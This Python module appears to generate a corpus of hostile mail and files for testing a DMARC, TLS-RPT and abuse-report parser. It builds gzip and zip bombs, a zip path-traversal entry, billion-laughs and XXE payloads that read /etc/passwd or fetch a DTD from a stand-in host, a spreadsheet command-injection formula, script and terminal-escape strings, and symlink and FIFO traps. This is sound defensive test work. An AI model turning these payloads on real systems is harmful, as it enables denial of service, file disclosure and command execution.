"""Mail that was written to harm whoever reads it. Nothing here asks what should come of it: it must only not do any harm.

`KINDS` maps a name to a function from a number to the bytes of a mail; another number gives other bytes. `leave_trap`
puts what is no mail at all into a folder.
"""

import base64
import functools
import gzip
import io
import os
import stat
import struct
import zipfile
import zlib

MIB = 1 << 20
KINDS = {}

RECORD = (
    b"<record><row><source_ip>198.51.100.9</source_ip><count>%s</count><policy_evaluated><disposition>none</disposition>"
    b"<dkim>fail</dkim><spf>fail</spf></policy_evaluated></row><identifiers><header_from>example.com</header_from>"
    b"</identifiers><auth_results><spf><domain>bulk.example.edu</domain><result>fail</result></spf></auth_results></record>")


def kind(function):
    KINDS[function.__name__.replace("_", "-")] = function
    return function


def document(number, body=RECORD % b"1", prologue=b"", org=b"Hostile Example"):
    return (
        b'<?xml version="1.0"?>%s<feedback><report_metadata><org_name>%s</org_name><email>x@hostile.example</email>'
        b"<report_id>h%d</report_id><date_range><begin>1795392000</begin><end>1795478399</end></date_range></report_metadata>"
        b"<policy_published><domain>example.com</domain><p>none</p></policy_published>%s</feedback>\n"
    ) % (prologue, org, number, body)


def top(number, subject=b"Report Domain: example.com Submitter: hostile.example"):
    return (
        b"Return-Path: <x@hostile.example>\nReceived: from hostile.example ([203.0.113.66]) by mx.example.com id %08X; "
        b"Tue, 24 Nov 2026 02:00:00 +0000\nFrom: x@hostile.example\nTo: dmarc@example.com\nSubject: %s\n"
        b"Message-ID: <h%d@hostile.example>\nMIME-Version: 1.0\n") % (number, subject, number)


def mail(number, payload, media=b"application/gzip", name=b"hostile.example!example.com!1795392000!1795478399.xml.gz"):
    """A report mail with this attachment."""
    fields = b'Content-Type: %s; name="%s"\nContent-Transfer-Encoding: base64\n\n' % (media, name)
    return top(number) + fields + base64.encodebytes(payload)


def zipped(*entries, method=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def report(number, *arguments, **more):
    return mail(number, gzip.compress(document(number, *arguments, **more), 1, mtime=0))


@functools.cache
def bomb(mebibytes):
    """DEFLATE data of a report that never ends."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(document(0)[:-12] + b" " * (mebibytes * MIB)) + packer.flush()


def gzip_of(deflated, size=0, checksum=0):
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + deflated + struct.pack("<LL", checksum, size)


# Bombs and broken archives.

@kind
def gzip_bomb_200_mib(number):
    return mail(number, gzip_of(bomb(200), 200 * MIB))


@kind
def gzip_bomb_that_states_no_size(number):
    return mail(number, gzip_of(bomb(200)))


@kind
def gzip_bomb_twice(number):
    return mail(number, gzip.compress(gzip_of(bomb(200)), 9, mtime=0))


@kind
def gzip_of_20000_members(number):
    return mail(number, gzip.compress(b"", mtime=0) * 20_000 + gzip.compress(document(number), mtime=0))


@kind
def gzip_cut(number):
    whole = gzip.compress(document(number, RECORD % b"1" * 200), mtime=0)
    return mail(number, whole[: len(whole) * (number % 90 + 5) // 100])


@kind
def gzip_with_a_wrong_checksum(number):
    return mail(number, gzip.compress(document(number), mtime=0)[:-8] + b"\0" * 8)


@kind
def gzip_with_noise_inside(number):
    whole = bytearray(gzip.compress(document(number, RECORD % b"1" * 50), mtime=0))
    whole[len(whole) // 2] ^= 1 << number % 8
    return mail(number, bytes(whole))


@functools.cache
def zip_bomb_bytes():
    return zipped(("report.xml", document(0)[:-12] + b" " * (100 * MIB)))


@kind
def zip_bomb_100_mib(number):
    return mail(number, zip_bomb_bytes(), b"application/zip", b"r%d.zip" % number)


@functools.cache
def zip_in_zip_bytes():
    inner = zip_bomb_bytes()
    for depth in range(8):
        inner = zipped(*((f"{depth}-{copy}.zip", inner) for copy in range(4)))
        inner = inner if len(inner) < MIB else inner[:MIB]
    return inner


@kind
def zip_in_zip_in_zip(number):
    return mail(number, zip_in_zip_bytes(), b"application/zip", b"r%d.zip" % number)


@functools.cache
def overlapping_bytes(entries=2000):
    """One compressed file, named again and again by the directory."""
    packed = bomb(10)
    local = b"PK\3\4" + struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 0, 0, len(packed), 10 * MIB, 5, 0) + b"r.xml" + packed
    one = b"PK\1\2" + struct.pack("<HHHHHHLLLHHHHHLL", 20, 20, 0, 8, 0, 0, 0, len(packed), 10 * MIB, 5, 0, 0, 0, 0, 0, 0) + b"r.xml"
    end = b"PK\5\6" + struct.pack("<HHHHLLH", 0, 0, entries, entries, len(one) * entries, len(local), 0)
    return local + one * entries + end


@kind
def zip_of_2000_overlapping_entries(number):
    return mail(number, overlapping_bytes(), b"application/zip", b"r%d.zip" % number)


@kind
def zip_of_3000_entries(number):
    return mail(number, zipped(*((f"{entry}.xml", b"") for entry in range(3000))), b"application/zip", b"r%d.zip" % number)


@kind
def zip_that_lies_about_sizes(number):
    whole = bytearray(zipped(("r.xml", document(number, RECORD % b"1" * 20))))
    for signature, offset in ((b"PK\3\4", 18), (b"PK\1\2", 20)):
        start = whole.index(signature) + offset
        whole[start : start + 8] = struct.pack("<LL", 0xFFFFFFF0 - number, number)
    return mail(number, bytes(whole), b"application/zip", b"r%d.zip" % number)


@kind
def zip_with_wrong_offsets(number):
    whole = zipped(("r.xml", document(number)))
    return mail(number, whole[:-6] + struct.pack("<L", 0xFFFFFFFF - number) + b"\0\0", b"application/zip", b"r%d.zip" % number)


@kind
def zip_cut(number):
    whole = zipped(("r.xml", document(number, RECORD % b"1" * 200)))
    return mail(number, whole[: len(whole) * (number % 90 + 5) // 100], b"application/zip", b"r%d.zip" % number)


@kind
def zip_that_climbs_out(number):
    name = "../" * 40 + f"etc/cron.d/{number}.xml"
    return mail(number, zipped((name, document(number))), b"application/zip", b"../../../etc/passwd")


@kind
def zip_under_a_password(number):
    whole = bytearray(zipped(("r.xml", document(number))))
    whole[6] |= 1
    whole[whole.index(b"PK\1\2") + 8] |= 1
    return mail(number, bytes(whole), b"application/zip", b"r%d.zip" % number)


@kind
def archive_of_another_kind(number):
    start = (b"Rar!\x1a\x07\0", b"7z\xbc\xaf\x27\x1c", b"BZh9", b"\xfd7zXZ\0", b"\x28\xb5\x2f\xfd")[number % 5]
    return mail(number, start + struct.pack("<L", number) * 500, b"application/octet-stream")


# XML.


@kind
def xml_billion_laughs(number):
    entities = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 12))
    return report(number, prologue=b'<!DOCTYPE feedback [<!ENTITY l0 "ha">%s]>' % entities, org=b"&l11;")


@kind
def xml_quadratic_entity(number):
    return report(number, prologue=b'<!DOCTYPE feedback [<!ENTITY a "%s">]>' % (b"a" * 50_000), org=b"&a;" * 50_000)


@kind
def xml_that_asks_for_a_file(number):
    return report(number, prologue=b'<!DOCTYPE feedback [<!ENTITY f SYSTEM "file:///etc/passwd">]>', org=b"&f;")


@kind
def xml_that_asks_the_network(number):
    prologue = b'<!DOCTYPE feedback SYSTEM "http://203.0.113.66/%d.dtd" [<!ENTITY %% p SYSTEM "http://203.0.113.66/p"> %%p;]>' % number
    return report(number, prologue=prologue)


@kind
def xml_100000_deep(number):
    return report(number, b"<record>" * 100_000)


@kind
def xml_name_of_a_mib(number):
    return report(number, b"<" + b"a" * MIB + b"/>")


@kind
def xml_100000_attributes(number):
    return report(number, b"<record %s/>" % b" ".join(b'a%d="1"' % name for name in range(100_000)))


@kind
def xml_text_of_4_mib(number):
    return report(number, org=b"y" * (4 * MIB))


@kind
def xml_comment_of_4_mib(number):
    return report(number, b"<!--" + b"z" * (4 * MIB))


@kind
def xml_cut(number):
    whole = document(number, RECORD % b"1" * 100)
    return mail(number, gzip.compress(whole[: len(whole) * (number % 90 + 5) // 100], 1, mtime=0))


@kind
def xml_with_nuls(number):
    return report(number, RECORD % b"1\0\0\0", org=b"\0" * 200)


@kind
def xml_in_no_encoding(number):
    return report(number, org=bytes(range(128, 256)) * 20)


@kind
def xml_counts_beyond_all(number):
    counts = (b"-1", b"9" * 40, b"1e308", b"0x10", b"18446744073709551616", b"")
    return report(number, b"".join(RECORD % count for count in counts))


@kind
def xml_of_30000_records(number):
    return report(number, RECORD % b"1" * 30_000)


@kind
def xml_that_is_markup_elsewhere(number):
    return report(number, org=b"&lt;script&gt;alert(%d)&lt;/script&gt;=cmd|' /C calc'!A0\xe2\x80\xae\xe2\x80\x8b&#27;[2J" % number)


@kind
def json_100000_deep(number):
    return mail(number, gzip.compress(b'{"organization-name":' + b"[" * 100_000, 1, mtime=0), b"application/tlsrpt+gzip", b"t.json.gz")


@kind
def json_numbers_beyond_all(number):
    text = b'{"organization-name":"h%d","policies":[{"policy":{"policy-type":"sts"},"summary":{"total-successful-session-count":%s}}]}'
    return mail(number, gzip.compress(text % (number, b"9" * 5000), 1, mtime=0), b"application/tlsrpt+gzip", b"t.json.gz")


# Messages.


@kind
def mime_500_deep(number):
    text = top(number)
    for depth in range(500):
        text += b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (depth, depth)
    return text + b"\nend\n"


@kind
def mime_of_5000_parts(number):
    return top(number) + b'Content-Type: multipart/mixed; boundary="b"\n\n' + b"--b\nContent-Type: text/xml\n\n<a/>\n" * 5000 + b"--b--\n"


@kind
def mime_200000_lines_like_a_boundary(number):
    return top(number) + b'Content-Type: multipart/mixed; boundary="b"\n\n' + b"--bb\n--\n" * 200_000


@kind
def mime_message_in_message_300(number):
    return top(number) + b"Content-Type: message/rfc822\n\n" * 300 + b"end\n"


@kind
def mime_boundary_of_10_kib(number):
    return top(number) + b'Content-Type: multipart/report; boundary="%s"\n\n--%s\n\nend\n' % (b"b" * 10_240, b"b" * 10_240)


@kind
def mime_10000_parameters(number):
    parameters = b"".join(b";\n name*%d*=utf-8''%%00%%ff" % name for name in range(10_000))
    return top(number) + b"Content-Type: application/gzip" + parameters + b"\n\n"


@kind
def header_of_2_mib(number):
    return top(number) + b"X-Long: " + b"x" * (2 * MIB) + b"\n\nend\n"


@kind
def header_of_20000_fields(number):
    return top(number) + b"".join(b"X-%d: 1\n" % field for field in range(20_000)) + b"\nend\n"


@kind
def header_of_50000_folds(number):
    return top(number) + b"X-Folded: a\n" + b" b\n" * 50_000 + b"\nend\n"


@kind
def header_of_5000_encoded_words(number):
    return top(number, b"=?utf-8?q?a?= " * 5000) + b"\nend\n"


@kind
def header_of_5000_addresses_and_comments(number):
    addresses = b", ".join(b'"a\\"%d" <a%d@hostile.example>' % (one, one) for one in range(5000))
    return top(number) + b"Cc: " + b"(" * 5000 + addresses + b"\n\nend\n"


@kind
def header_of_1000_received_and_seals(number):
    return top(number) + b"Received: from a by b; never\nARC-Seal: i=1; a=rsa-sha256; b=\n" * 1000 + b"\nend\n"


@kind
def nuls_only(number):
    return b"\0" * (1000 + number)


@kind
def nuls_between(number):
    return b"\0".join(report(number)[at : at + 7] for at in range(0, 4000, 7))


@kind
def bytes_of_no_meaning(number):
    return b"".join(struct.pack("<Q", (number * 6364136223846793005 + step * 1442695040888963407) % 2**64) for step in range(2000))


@kind
def nothing_but_a_newline(number):
    return b"\n" * (number % 7)


@kind
def bare_carriage_returns(number):
    return report(number).replace(b"\n", b"\r")


@kind
def base64_that_is_none(number):
    return top(number) + b"Content-Type: application/zip\nContent-Transfer-Encoding: base64\n\n" + b"=%&/(" * 20_000 + b"%d\n" % number


@kind
def quoted_printable_that_is_none(number):
    return top(number) + b"Content-Type: text/xml\nContent-Transfer-Encoding: quoted-printable\n\n" + b"=\n=ZZ=0=" * 20_000


@kind
def one_line_of_8_mib(number):
    return top(number) + b"Content-Type: text/xml\n\n" + b"<feedback>" + b"a" * (8 * MIB)


@kind
def a_mail_of_others_parts(number):
    media = (b"message/partial; id=1; number=1; total=3", b'message/external-body; access-type=URL; URL="http://203.0.113.66/"',
             b"application/ms-tnef", b"multipart/encrypted; boundary=b", b"text/html; charset=utf-7")[number % 5]
    return top(number) + b"Content-Type: " + media + b"\n\n--b\n\n+ADw-script+AD4-\n"


# Complaints and bounces.


ORIGINAL = b"From: news@example.com\nTo: a@hostile.example\nMessage-ID: <1@example.com>\n\nbody\n"


def arf(number, fields, original=ORIGINAL, returned=b"message/rfc822"):
    return top(number, b"complaint") + (
        b'Content-Type: multipart/report; report-type=feedback-report; boundary="b"\n\n--b\n\nspam\n\n--b\n'
        b"Content-Type: message/feedback-report\n\nFeedback-Type: abuse\nUser-Agent: x/1\nVersion: 1\n%s\n"
        b"--b\nContent-Type: %s\n\n%s\n--b--\n") % (fields, returned, original)


@kind
def arf_forged_for_2000_recipients(number):
    return arf(number, b"".join(b"Original-Rcpt-To: <v%d-%d@hostile.example>\n" % (number, one) for one in range(2000)))


@kind
def arf_forged_for_our_own_addresses(number):
    return arf(number, b"Original-Rcpt-To: <postmaster@example.com>\nRemoval-Recipient: all@example.com\nX-Number: %d\n" % number)


@kind
def arf_that_breaks_lines(number):
    return arf(number, b"Original-Rcpt-To: <a\r\tREJECT@hostile.example>\nOriginal-Rcpt-To: <\"x\\\n OK\"@hostile.example> %d\n" % number)


@kind
def arf_with_an_address_of_100_kib(number):
    return arf(number, b"Original-Rcpt-To: <%s@hostile.example>\nX-Number: %d\n" % (b"l" * 102_400, number))


@kind
def arf_of_20000_fields(number):
    return arf(number, b"".join(b"Incidents: %d\n" % (10**18 + one) for one in range(20_000)))


@kind
def arf_in_arf_50(number):
    inner = b"From: a@hostile.example\n\nend\n"
    for _ in range(50):
        inner = arf(number, b"", inner)
    return inner


@kind
def arf_without_its_mail(number):
    return arf(number, b"Original-Rcpt-To: <>\nSource-IP: 999.999.999.%d\n" % number, b"", b"application/zip")


@kind
def arf_whose_tokens_are_noise(number):
    noise = base64.b32encode(struct.pack("<QQQ", number, number * 7919, 42)).decode().lower().rstrip("=").encode()
    original = b"From: news@example.com\nMessage-ID: <%s@example.com>\n\n" % noise
    return arf(number, b"Original-Mail-From: <b+%s=x@example.com>\n" % noise, original)


@kind
def bounce_of_20000_recipients(number):
    blocks = b"".join(
        b"Final-Recipient: rfc822; v%d-%d@hostile.example\nAction: failed\nStatus: 5.1.1\n\n" % (number, one) for one in range(20_000))
    return top(number, b"Undelivered") + (
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\n\n--b\nContent-Type: message/delivery-status\n\n'
        b"Reporting-MTA: dns; hostile.example\n\n%s--b--\n") % blocks


@kind
def bounce_with_a_reply_of_a_mib(number):
    return top(number, b"Undelivered") + (
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\n\n--b\nContent-Type: message/delivery-status\n\n'
        b"Reporting-MTA: dns; hostile.example\n\nFinal-Recipient: rfc822; v%d@hostile.example\nAction: failed\nStatus: 5.%s\n"
        b"Diagnostic-Code: smtp; 550-%s\n\n--b--\n") % (number, b"9" * 5000, b"5.1.1 no " * 120_000)


# What is no mail at all.


def leave_trap(folder, number):
    """Puts something into the folder that must never be opened, or only with care. Gives its name."""
    name = f"trap{number:06d}.hostile"
    path = os.path.join(folder, name)
    match number % 7:
        case 0: os.symlink("/etc/passwd", path)
        case 1: os.symlink("/nowhere/at/all", path)
        case 2: os.mkfifo(path)
        case 3: os.mkdir(path)
        case 4: os.mknod(path, stat.S_IFSOCK | 0o600)
        case 5:
            with open(path, "wb") as file:
                file.truncate(100 * MIB)
        case 6:
            name = f"trap{number:06d}\n\x1b[2J\u202e" + "x" * 200
            with open(os.path.join(folder, name), "wb") as file:
                file.write(report(10**9 + number))
    return name
